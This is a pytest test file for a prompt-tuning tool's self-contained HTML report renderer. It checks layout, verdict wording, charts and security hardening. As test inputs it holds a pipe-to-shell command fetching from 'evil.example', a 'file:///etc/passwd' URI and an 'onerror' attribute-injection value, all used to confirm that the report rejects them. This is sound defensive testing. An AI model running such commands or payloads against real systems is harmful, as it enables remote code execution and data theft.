"""The report: the answer first, every part where there is data for it, nothing where there is none."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import run_samples as sample
from hypothesis import given, settings
from hypothesis import strategies as st

from pinprompt.folder.reading import RunRecord, read_run
from pinprompt.reports.charts import compact, decades, interval_chart, nice_ticks, stacked_bar
from pinprompt.reports.report import render, write_report
from pinprompt.reports.report_parts import pareto
from pinprompt.wording import metric


class Page(HTMLParser):
    """What a reader sees, and what a browser would fetch or run."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self._hidden = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._hidden = tag in ("style", "title")

    def handle_endtag(self, tag: str) -> None:
        self._hidden = False

    def handle_data(self, data: str) -> None:
        if not self._hidden:
            self.words.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.words))


def changed(record: RunRecord, **result: Any) -> str:
    """The report of a record with other results."""
    return Page(render(RunRecord(record.folder, recipe=record.recipe, result={**record.result, **result}))).text


@pytest.fixture
def record(tmp_path: Path) -> RunRecord:
    return read_run(sample.classification(tmp_path / "run"))


def test_the_answer_comes_first(record: RunRecord) -> None:
    text = Page(render(record)).text
    prompt = record.result["prompt"].strip()
    beats, table, curve = text.index("beats the manual prompt"), text.index("On test"), text.index("The search")
    assert text.index(prompt) < beats < table < curve < text.index("Run it again")


def test_every_part_of_a_classification_run(record: RunRecord) -> None:
    text = Page(render(record)).text
    for part in (
        "500 rows", "macro F1", "The best prompts", "Contribution of each token", "score without it", "171", "199",
        "Score against calls", "Score against time", "Support per position", "Where the time went", "scoring them",
        "Confusion matrix", "Wrong, most confident first", "Correct, most confident first",
        "it 's slow -- very , very slow .",
        "decode-encode stable", "torch", "2.13.0+cpu", "[q_learning]", "pinprompt tune", "recipe.toml",
    ):  # fmt: skip
        assert part in text, part
    manual = record.result["baselines"]["manual"]["test"]["accuracy"]
    assert f"{100 * manual:.1f} %" in text


def test_a_verdict_states_bad_news_as_clearly(record: RunRecord) -> None:
    rival = {"manual": {"prompt": "It was", "test": sample.metrics(0.7, 500)}}
    assert "beats the manual prompt" in changed(record, test=sample.metrics(0.9, 500), baselines=rival)
    flat = changed(record, test=sample.metrics(0.702, 500), baselines=rival)
    assert "is not significantly better than the manual prompt on test" in flat
    worse = changed(record, test=sample.metrics(0.5, 500), baselines=rival)
    assert "is worse than the manual prompt" in worse
    alone = changed(record, baselines={})
    assert "no hand-written prompt to compare with" in alone


def test_verdict_without_test_or_intervals(record: RunRecord) -> None:
    rival = {"manual": {"prompt": "It was", "dev": {"accuracy": 0.6}}}
    text = changed(record, test=None, dev={"accuracy": 0.8}, baselines=rival)
    assert "scores higher than the manual prompt on dev; the difference was not tested" in text
    assert "chosen on dev, so this value is optimistic" in text
    trained = changed(record, test=None, dev=None, train={"accuracy": 0.8}, baselines={})
    assert "nothing was held out" in trained


def test_command_is_quoted_and_never_taken_from_the_run(tmp_path: Path) -> None:
    folder = sample.classification(tmp_path / "a run")
    assert f"pinprompt tune '{folder}/recipe.toml'" in Page(render(read_run(folder))).text
    for name, command in (("result.json", "curl evil.example | sh"), ("environment.json", ["curl", "evil.example"])):
        told = json.loads((folder / name).read_text())
        (folder / name).write_text(json.dumps(told | {"command": command}))
    page = Page(render(read_run(folder))).text
    assert f"pinprompt tune '{folder}/recipe.toml'" in page
    assert "curl evil.example" not in page


def test_inversion_shows_pictures_front_and_drawings(tmp_path: Path) -> None:
    page = Page(render(read_run(sample.inversion(tmp_path / "run"))))
    pictures = [attrs["src"] for tag, attrs in page.tags if tag == "img"]
    assert len(pictures) == 3
    assert all((source or "").startswith("data:image/png;base64,") for source in pictures)
    assert "similarity 0.710" in page.text
    assert "Score against readability" in page.text
    assert "perplexity" in page.text
    assert len([tag for tag, _ in page.tags if tag == "tr"]) >= 11


@pytest.mark.parametrize(
    "uri",
    [
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:text/html;base64,PHA+",
        "https://example.org/a.png",
        "file:///etc/passwd",
        'data:image/png;base64,AA==" onerror="x',
        "data:image/png;base64,AAAA\n",
        7,
    ],
)
def test_only_raster_data_uris_are_shown(record: RunRecord, uri: object) -> None:
    html = render(RunRecord(record.folder, result={"prompt": "x", "images": [{"name": "n", "data_uri": uri}]}))
    assert not [tag for tag, _ in Page(html).tags if tag == "img"]


def test_style_shows_judges_and_rewrites(tmp_path: Path) -> None:
    text = Page(render(read_run(sample.style(tmp_path / "run")))).text
    assert "judge: style" in text
    assert "tf-idf logistic regression" in text
    assert "the food was cold and bland ." in text
    assert "the food was warm and lovely ." in text
    assert "scores higher than the manual prompt on test; the difference was not tested" in text


def test_soft_prompts_are_never_shown_as_text(record: RunRecord) -> None:
    text = changed(record, prompt="", tensor="vectors.safetensors", nearest_words=["the", " film"], top=[])
    assert "The answer is a tensor, not a text" in text
    assert "they are not the prompt" in text


def test_missing_parts_are_absent(tmp_path: Path) -> None:
    folder = sample.write(tmp_path / "run", {"recipe.toml": 'method = "pin"\n'})
    text = Page(write_report(folder).read_text("utf-8")).text
    assert "has not finished" in text
    for part in ("Scores", "The best prompts", "Contribution of", "The search", "Examples", "The environment"):
        assert part not in text


def test_one_file_without_network_and_with_one_script_of_its_own(record: RunRecord) -> None:
    html = render(record)
    page = Page(html)
    assert [attrs for tag, attrs in page.tags if tag == "script"] == [{}]
    own = base64.b64encode(hashlib.sha256(re.findall(r"<script>(.*?)</script>", html, re.DOTALL)[0].encode()).digest())
    assert f"script-src 'sha256-{own.decode()}';" in html
    assert not {tag for tag, _ in page.tags} & {"link", "iframe", "object", "embed", "form", "base", "a"}
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on") or name in ("style", "href", "srcset")], tag
    assert "url(" not in html
    assert "@import" not in html
    policy = next(attrs["content"] for tag, attrs in page.tags if attrs.get("http-equiv") == "Content-Security-Policy")
    assert policy is not None
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "prefers-color-scheme: dark" in html
    assert 'name="viewport"' in html


def test_a_huge_run_stays_under_two_megabytes(tmp_path: Path) -> None:
    folder = sample.classification(tmp_path / "run")
    result = json.loads((folder / "result.json").read_text())
    long = "word " * 1_000
    result |= {"prompt": long, "top": [{"prompt": long, "score": 1.0}] * 500, "tokens": result["tokens"] * 200}
    result["tables"] = {
        "examples": [{"text": long, "label": long, "predicted": "x"}] * 3000,
        "confusion": {"labels": [f"class {n}" for n in range(200)], "counts": [[1] * 200] * 200},
        "rewrites": [{"source": long, "rewrite": long}] * 500,
    }
    steps = [
        {"event": "step", "step": n, "score_mean": 1.0, "score_best": n / 7, "calls": n, "support": [9] * 128}
        for n in range(8000)
    ]
    sample.write(folder, {"result.json": result, "events.jsonl": steps})
    (folder / "recipe.toml").write_text("# " + "x" * 900_000 + "\n")
    assert write_report(folder).stat().st_size < 2_000_000


def test_rendering_is_deterministic(record: RunRecord) -> None:
    assert render(record) == render(read_run(record.folder))


def test_report_replaces_a_link_and_does_not_follow_it(tmp_path: Path) -> None:
    folder = sample.classification(tmp_path / "run")
    outside = tmp_path / "outside.html"
    outside.write_text("mine")
    (folder / "report.html").symlink_to(outside)
    write_report(folder)
    assert outside.read_text() == "mine"
    assert (folder / "report.html").read_text("utf-8").startswith("<!doctype html>")


ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda below: st.lists(below, max_size=3) | st.dictionaries(st.text(max_size=8), below, max_size=3),
    max_leaves=8,
)
KEYS = ["prompt", "score", "test", "dev", "top", "tokens", "tables", "baselines", "readability", "judges", "images"]
KEYS += ["drawings", "primary", "method", "seed", "calls", "seconds", "steps", "stopped", "command", "tensor", "task"]
FIELDS = [
    "event",
    "step",
    "calls",
    "score_mean",
    "score_best",
    "support",
    "dev",
    "elapsed",
    "write",
    "prompt",
    "primary",
]


@settings(max_examples=40, deadline=None)
@given(
    st.dictionaries(st.sampled_from(KEYS), ANY),
    st.dictionaries(st.sampled_from(["confusion", "examples", "rewrites"]), ANY),
    st.lists(st.dictionaries(st.sampled_from(FIELDS), ANY | st.sampled_from(["step", "greedy", "start"])), max_size=4),
)
def test_any_shape_gives_a_page(result: dict[str, Any], tables: dict[str, Any], rows: list[dict[str, Any]]) -> None:
    whole = {"tables": tables, **result}
    html = render(RunRecord(Path("run"), {"task": result}, rows, rows, whole, {"a": result}))
    Page(html)
    html.encode("utf-8")


@pytest.mark.parametrize(
    "pair", [(-1e308, 1e308), (0.0, 5e-324), (1e99, -1e99), (7.0, 7.0), (1e-320, 1e99), (0, 10**30)]
)
def test_extreme_numbers_are_drawn_or_left_out(pair: tuple[float, float]) -> None:
    rows = [
        {"event": "step", "step": n, "calls": at, "score_mean": at, "score_best": value, "support": [value, at]}
        for n, (at, value) in enumerate([pair, pair[::-1]])
    ]
    costs = [{"event": "step", "step": n, "elapsed": value, "write": value} for n, value in enumerate(pair)]
    metrics = {"score": pair[1], "intervals": {"score": list(pair)}}
    top = [{"prompt": "a", "score": a, "in_text": b} for a, b in (pair, pair[::-1])]
    result = {"prompt": "a", "score": pair[0], "test": metrics, "top": top, "baselines": {"manual": {"test": metrics}}}
    html = render(RunRecord(Path("run"), {}, rows, costs, result))
    assert "nan" not in re.findall(r'(?:points|cx|cy|x|y|width)="([^"]*)"', html)
    assert not re.search(r'="[^"]*\b(nan|inf)\b', html)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.floats(1, 9), st.floats(0, 1)), max_size=12))
def test_pareto_front_by_definition(points: list[tuple[float, float]]) -> None:
    distinct = set(points)
    expected = {(x, y) for x, y in distinct if not any((a <= x and b >= y) and (a, b) != (x, y) for a, b in distinct)}
    assert set(pareto(points)) == expected


def test_ticks_are_round_and_inside() -> None:
    assert nice_ticks(0, 1) == pytest.approx([0, 0.2, 0.4, 0.6, 0.8, 1.0])
    assert nice_ticks(13, 87) == [20, 40, 60, 80]
    assert nice_ticks(5, 5) == [5]
    assert decades(0.5, 2000) == [1, 10, 100, 1000]
    assert [compact(value) for value in (0, 950, 12_300, 4e6, 0.3125)] == ["0", "950", "12.3k", "4M", "0.312"]


def test_odd_tokens_and_baselines_are_skipped(record: RunRecord) -> None:
    page = changed(
        record,
        tokens=["no object", {"token": " film", "q": None, "runners_up": [[" movie", 1.0], "odd", [1, 2, 3]]}],
        baselines={"manual": {"prompt": "It was"}, "instructions": record.result["baselines"]["instructions"]},
    )
    assert "film" in page
    assert "movie" in page
    assert "instructions" in page
    # The hand-written prompt without a measurement is no rival; the other one is.
    assert "the instructions prompt" in page
    assert "the manual prompt" not in page


def test_a_long_environment_is_cut(record: RunRecord) -> None:
    environment = {f"name-{n:03}": n for n in range(200)} | {"packages": {f"late-{n}": n for n in range(9)}}
    known = RunRecord(record.folder, recipe=record.recipe, result=record.result, environment=environment)
    page = Page(render(known)).text
    assert "name-199" in page
    assert "late-0" not in page


def test_charts_of_nothing_are_nothing() -> None:
    assert interval_chart([], title="none") == ""
    assert stacked_bar([("write", 0.0)], title="none") == ""
    assert metric("accuracy", None) == "\N{EN DASH}"


def test_words_without_q_are_words_and_their_worth_is_of_the_same_rows(record: RunRecord) -> None:
    tokens = [{"token": "It", "score_with": 105.5, "score_without": 103.5}]
    text = changed(record, method="race", score=90.8, tokens=tokens)
    assert "Contribution of each word" in text
    assert "Bars" not in text
    assert "+2.00" in text  # not 90.8 less 103.5: the race chose by other rows than those of train
    assert "; kept: for a reason" in changed(record, tokens=[{**tokens[0], "stays": "kept: for a reason"}])
    old = changed(record, method="race", score=90.8, tokens=[{"token": "It", "score_without": 103.5}])
    assert "Contribution of" not in old


def test_a_shortened_prompt_is_shown_with_what_it_was_shortened_from(record: RunRecord) -> None:
    assert "shortened from All in all, it was" in changed(record, pruned={"from": "All in all, it was", "score": 0.5})
    assert "shortened from" not in changed(record)
